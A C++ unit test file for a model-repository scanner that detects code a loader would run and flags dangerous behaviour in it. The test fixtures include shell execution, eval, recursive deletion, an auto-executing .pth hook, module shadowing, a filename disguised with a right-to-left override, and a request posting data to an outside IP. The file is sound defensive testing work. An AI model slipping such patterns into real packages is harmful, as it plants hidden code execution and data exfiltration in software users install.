// identity/repository: which code a loader reaches, and what files of one folder say about each other. REP002,
// REP003, REP004, REP005, REP006, REP007, REP008.

#include "identity/repository.hpp"

#include <gtest/gtest.h>

#include <algorithm>

#include "formats/format.hpp"
#include "identity/identity.hpp"

namespace steelyard::identity {
namespace {

using Files = std::vector<std::pair<std::string, std::string>>;

// What a scan makes of a folder.
Examination folder(const Files& files) {
  Examination all;
  for (const auto& [path, content] : files) {
    Examination one = formats::examine(MemorySource(as_bytes(content)), path.substr(path.rfind('/') + 1));
    const auto base = static_cast<u32>(all.artifacts.size());
    for (Artifact& artifact : one.artifacts) {
      artifact.path = path;
      all.artifacts.push_back(artifact);
    }
    for (Fact& fact : one.facts) {
      if (fact.artifact) *fact.artifact += base;
      all.facts.push_back(fact);
    }
    for (Finding& finding : one.findings) {
      if (finding.artifact) *finding.artifact += base;
      all.findings.push_back(finding);
    }
  }
  weigh_claims(all);
  return all;
}

// The same files as members of an archive.
Examination archive(const std::string& name, const Files& files) {
  Examination all;
  all.artifacts.emplace_back();
  all.artifacts[0].path = name;
  all.artifacts[0].format = "zip";
  for (const auto& [path, content] : files) {
    Examination one = formats::examine(MemorySource(as_bytes(content)), path.substr(path.rfind('/') + 1));
    const auto base = static_cast<u32>(all.artifacts.size());
    one.artifacts[0].parent = 0;
    one.artifacts[0].path = name + "!" + path;
    all.artifacts.push_back(one.artifacts[0]);
    for (Fact& fact : one.facts) {
      if (fact.artifact) *fact.artifact += base;
      all.facts.push_back(fact);
    }
  }
  weigh_claims(all);
  return all;
}

std::vector<std::string> at(const Examination& found, std::string_view rule) {
  std::vector<std::string> paths;
  for (const Finding& finding : found.findings) {
    if (finding.rule == rule) paths.push_back(found.artifacts[*finding.artifact].path);
  }
  return paths;
}

using Paths = std::vector<std::string>;
const std::string kMap = R"({"auto_map": {"AutoModel": "modeling_x.XModel"}})";

TEST(Repository, CodeThatNobodyLoadsIsOnlyCode) {
  const std::string code = "import subprocess\ndef f():\n    subprocess.run(['ls', x])\n";
  EXPECT_TRUE(at(folder({{"config.json", "{}"}, {"modeling_x.py", code}}), "REP003").empty());
  EXPECT_EQ(at(folder({{"config.json", kMap}, {"modeling_x.py", code}}), "REP003"), Paths{"modeling_x.py"});
}

TEST(Repository, ImportsAreFollowed) {
  const Files files = {{"config.json", kMap},
                       {"modeling_x.py", "from .sub.helper import f\n"},
                       {"sub/helper.py", "from .. import deep\n"},
                       {"deep.py", "import os\nos.system('touch x')\n"},
                       {"other.py", "import os\nos.system('touch x')\n"}};
  EXPECT_EQ(at(folder(files), "REP003"), Paths{"deep.py"});
}

TEST(Repository, WhatConventionsRun) {
  const std::string code = "import os\nos.system('touch x')\n";
  for (const char* name :
       {"handler.py", "hubconf.py", "setup.py", "conftest.py", "custom_generate/generate.py", "sub/sitecustomize.py"})
    EXPECT_EQ(at(folder({{"config.json", "{}"}, {name, code}}), "REP003"), Paths{name});
  EXPECT_TRUE(at(folder({{"config.json", "{}"}, {"train.py", code}}), "REP003").empty());
  EXPECT_TRUE(at(folder({{"config.json", "{}"}, {"setup.py", "exec(open('version.py').read())\n"}}), "REP003").empty());
  EXPECT_TRUE(at(folder({{"config.json", "{}"},
                         {"setup.py", "import subprocess\nsubprocess.check_call(['cmake', '--build', d])\n"}}),
                 "REP003")
                  .empty());
}

const std::string kActs = "import os\nos.system('touch x')\n";

TEST(Repository, WhatFrameworksLookFor) {
  const auto loaded = [](const std::string& path, const std::string& code) {
    return !at(folder({{"config.json", "{}"}, {path, kActs + code}}), "REP003").empty();
  };
  EXPECT_TRUE(loaded("m.py", "class EndpointHandler:\n    pass\n"));
  EXPECT_TRUE(loaded("m.py", "class TritonPythonModel:\n    pass\n"));
  EXPECT_TRUE(loaded("m.py", "def predict_fn(data, model):\n    return data\n"));
  EXPECT_TRUE(loaded("m.py", "import datasets\nclass D(datasets.GeneratorBasedBuilder):\n    pass\n"));
  EXPECT_TRUE(
      loaded("m.py", "from ts.torch_handler.base_handler import BaseHandler\nclass H(BaseHandler):\n    pass\n"));
  EXPECT_FALSE(loaded("m.py", "class Handler(Base):\n    pass\n"));
  EXPECT_FALSE(loaded("m.py", "def f():\n    class EndpointHandler:\n        pass\n"));
  EXPECT_EQ(at(folder({{"m/config.pbtxt", "backend: \"x\""}, {"m/1/model.py", kActs}}), "REP003"),
            Paths{"m/1/model.py"});
  EXPECT_TRUE(at(folder({{"m/config.pbtxt", "backend: \"x\""}, {"m/src/model.py", kActs}}), "REP003").empty());
}

TEST(Repository, ServersStartPrograms) {
  const auto found = [](const std::string& call) {
    return at(folder({{"config.json", "{}"},
                      {"handler.py",
                       "import os, requests, subprocess\nclass EndpointHandler:\n    def __call__(self, d):\n        " +
                           call + "\n"}}),
              "REP003")
        .size();
  };
  EXPECT_EQ(found("subprocess.run(['ffmpeg', '-i', d])"), 0U);
  EXPECT_EQ(found("os.system('nvidia-smi')"), 0U);
  EXPECT_EQ(found("subprocess.run(d, shell=True)"), 1U);
  EXPECT_EQ(found("subprocess.getoutput(d)"), 1U);
  EXPECT_EQ(found("eval(d)"), 1U);
  EXPECT_EQ(found("subprocess.run(['bash', '-c', d])"), 1U);
  EXPECT_EQ(found("requests.post('http://203.0.113.7/x', json=d)"), 1U);
  EXPECT_EQ(found("requests.get('http://127.0.0.1:8080/x')"), 0U);
  EXPECT_EQ(found("requests.get('https://example.org/x')"), 0U);
}

TEST(Repository, ModulesThatConfigurationsName) {
  const auto loaded = [](const std::string& name, const std::string& document, const std::string& code) {
    return at(folder({{name, document}, {code, kActs}}), "REP003") == Paths{code};
  };
  EXPECT_TRUE(loaded("adapter_config.json", R"({"auto_mapping": {"parent_library": "own.code"}})", "own/code.py"));
  EXPECT_TRUE(loaded("adapter_config.json", R"({"auto_mapping": {"parent_library": "own"}})", "own.py"));
  EXPECT_TRUE(loaded("config.yaml", "_target_: own.code.Model\n", "own/code.py"));
  EXPECT_TRUE(loaded("model_index.json", R"({"_class_name": "P", "unet": ["own", "U"]})", "unet/own.py"));
  EXPECT_TRUE(loaded("MLmodel", "flavors:\n  python_function:\n    loader_module: own\n    code: src\n", "src/own.py"));
  EXPECT_TRUE(loaded("MLmodel", "flavors:\n  python_function:\n    code: code\n", "code/own.py"));
  EXPECT_TRUE(loaded("MAR-INF/MANIFEST.json", R"({"model": {"handler": "own:handle"}})", "own.py"));
  EXPECT_TRUE(loaded("MAR-INF/MANIFEST.json", R"({"model": {"handler": "own.py:handle"}})", "own.py"));
  EXPECT_TRUE(loaded("pyproject.toml", "[build-system]\nbuild-backend = \"own\"\nbackend-path = [\n  \"tools\",\n]\n",
                     "tools/own.py"));
  EXPECT_TRUE(loaded("cog.yaml", "predict: \"own.py:Predictor\"\n", "own.py"));
  EXPECT_TRUE(loaded("bentofile.yaml", "service: \"own.code:svc\"\n", "own/code.py"));
  EXPECT_TRUE(loaded("model_index.json", R"({"_class_name": "P"})", "pipeline.py"));
  EXPECT_TRUE(loaded("router_config.json", R"({"types": {"query_0_Own": "own.Own"}})", "own.py"));
  EXPECT_FALSE(loaded("pyproject.toml", "[build-system]\nbuild-backend = \"own\"\n", "tools/own.py"));
  EXPECT_FALSE(loaded("config.yaml", "_target_: torch.nn.Linear\n", "own.py"));
}

TEST(Repository, ModulesThatHideOthers) {
  const auto loaded = [](const Files& files) { return at(folder(files), "REP003"); };
  for (const char* name : {"json.py", "torch.py", "numpy/__init__.py", "__init__.py"})
    EXPECT_EQ(loaded({{"config.json", "{}"}, {name, kActs}}), Paths{name});
  EXPECT_TRUE(loaded({{"pkg/__init__.py", ""}, {"pkg/json.py", kActs}}).empty()) << "it is pkg.json";
  EXPECT_TRUE(loaded({{"config.json", "{}"}, {"convert.py", kActs}}).empty());
  EXPECT_TRUE(loaded({{"config.json", "{}"},
                      {"__init__.py",
                       "import os, ssl, socket, subprocess\nssl.OPENSSL_VERSION.startswith('x')\n"
                       "socket.socket().close()\nos.remove('x')\nsubprocess.STARTUPINFO()\n"}})
                  .empty())
      << "as packages do";
  EXPECT_TRUE(loaded({{"config.json", "{}"},
                      {"__init__.py",
                       "import requests, subprocess\nsession = requests.Session()\ndef f(x):\n    "
                       "subprocess.run(x)\n"}})
                  .empty())
      << "only what acts when it is imported";
}

TEST(Repository, LoadedCodeThatDeletes) {
  const std::string imported = "import shutil\nshutil.rmtree(p)\n";
  EXPECT_EQ(at(folder({{"config.json", kMap}, {"modeling_x.py", imported}}), "REP003"), Paths{"modeling_x.py"});
  const std::string used = "import shutil\ndef f(p):\n    shutil.rmtree(p)\nshutil.which('x')\n";
  EXPECT_TRUE(at(folder({{"config.json", kMap}, {"modeling_x.py", used}}), "REP003").empty());
}

TEST(Repository, Archives) {
  const std::string manifest = R"({"model": {"modelName": "m", "handler": "own.py"}})";
  EXPECT_EQ(at(archive("m.mar", {{"MAR-INF/MANIFEST.json", manifest}, {"own.py", kActs}}), "REP003"),
            Paths{"m.mar!own.py"});
  EXPECT_EQ(at(archive("m.whl", {{"x-1.data/purelib/x.pth", "import os; os.system('touch x')\n"}}), "REP003"),
            Paths{"m.whl!x-1.data/purelib/x.pth"});
  EXPECT_TRUE(at(archive("m.zip", {{"train.py", kActs}}), "REP003").empty());
}

TEST(Repository, OrdinaryCustomCodeIsNoAlarm) {
  const Examination found = folder(
      {{"config.json", kMap},
       {"modeling_x.py",
        "import torch\nfrom torch import nn\nfrom .configuration_x import XConfig\n\n\nclass XModel(nn.Module):\n    "
        "def forward(self, x):\n        return x\n"},
       {"configuration_x.py",
        "from transformers import PretrainedConfig\n\n\nclass XConfig(PretrainedConfig):\n    model_type = \"x\"\n"}});
  for (const Finding& finding : found.findings) EXPECT_EQ(finding.rule, "CFG003");
  ASSERT_NE(found.fact("repo.loaded_code"), nullptr);
  EXPECT_EQ(found.fact("repo.loaded_code")->value.array().size(), 2u);
}

TEST(Repository, NetworkWhenUsedIsLessThanWhenLoaded) {
  const std::string use = "import requests\ndef f(u):\n    return requests.get(u)\n";
  EXPECT_EQ(at(folder({{"config.json", kMap}, {"modeling_x.py", use}}), "REP004"), Paths{"modeling_x.py"});
  EXPECT_EQ(
      at(folder({{"config.json", kMap}, {"modeling_x.py", "import requests\nrequests.get('https://e.example')\n"}}),
         "REP003"),
      Paths{"modeling_x.py"});
}

TEST(Repository, MissingFiles) {
  EXPECT_EQ(at(folder({{"config.json", kMap}, {"README.md", "x"}}), "REP002"), Paths{"config.json"});
  const std::string modules =
      R"([{"idx": 0, "name": "0", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"}])";
  EXPECT_TRUE(at(folder({{"modules.json", modules}, {"1_Pooling/config.json", "{}"}}), "REP002").empty());
  EXPECT_EQ(at(folder({{"modules.json", modules}, {"2_Pooling/config.json", "{}"}}), "REP002"), Paths{"modules.json"});
  EXPECT_TRUE(folder({{"config.json", kMap}}).fact("repo.loaded_code") == nullptr)
      << "a file alone is not a repository";
}

TEST(Repository, NamesAndSecondWeights) {
  EXPECT_EQ(at(folder({{"Config.json", "{}"}, {"config.json", "{}"}}), "REP006"), Paths{"config.json"});
  EXPECT_EQ(at(folder({{"a.json", "{}"}, {"model\xE2\x80\xAEgnp.py", "x = 1\n"}}), "REP007"),
            (Paths{"model\xE2\x80\xAEgnp.py"}));
  EXPECT_TRUE(at(folder({{"a.json", "{}"}, {"caf\xC3\xA9.py", "x = 1\n"}}), "REP007").empty());
  EXPECT_EQ(at(folder({{"model.safetensors", "x"}, {"pytorch_model.bin", "x"}}), "REP005"), Paths{"pytorch_model.bin"});
}

TEST(Repository, WordsThatAConfigurationAdds) {
  const std::string tokenizer =
      R"({"version": "1.0", "added_tokens": [], "model": {"type": "WordLevel", "vocab": {"</s>": 0, "hello": 1, "<x>": 2}}})";
  const auto found = [&](const std::string& name, const std::string& document) {
    return at(folder({{"tokenizer.json", tokenizer}, {name, document}}), "REP008");
  };
  EXPECT_EQ(found("added_tokens.json", R"({"hello": 0})"), Paths{"added_tokens.json"});
  EXPECT_EQ(found("tokenizer_config.json", R"({"added_tokens_decoder": {"1": {"content": "goodbye"}}})"),
            Paths{"tokenizer_config.json"});
  EXPECT_TRUE(found("added_tokens.json", R"({"hello": 1, "<|im_end|>": 2, "own": 70})").empty());
}

TEST(Repository, VocabulariesOfOneFolder) {
  EXPECT_TRUE(at(folder({{"vocab.txt", "a\nb\n"}, {"vocab.json", R"({"b": 1, "a": 0})"}}), "REP008").empty());
  EXPECT_EQ(at(folder({{"vocab.txt", "b\na\n"}, {"vocab.json", R"({"b": 1, "a": 0})"}}), "REP008"), Paths{"vocab.txt"});
  EXPECT_TRUE(at(folder({{"x/vocab.txt", "b\na\n"}, {"vocab.json", R"({"b": 1, "a": 0})"}}), "REP008").empty());
  EXPECT_TRUE(at(folder({{"vocab.txt", "b\na\nc\n"}, {"vocab.json", R"({"b": 1, "a": 0})"}}), "REP008").empty());
}

}  // namespace
}  // namespace steelyard::identity
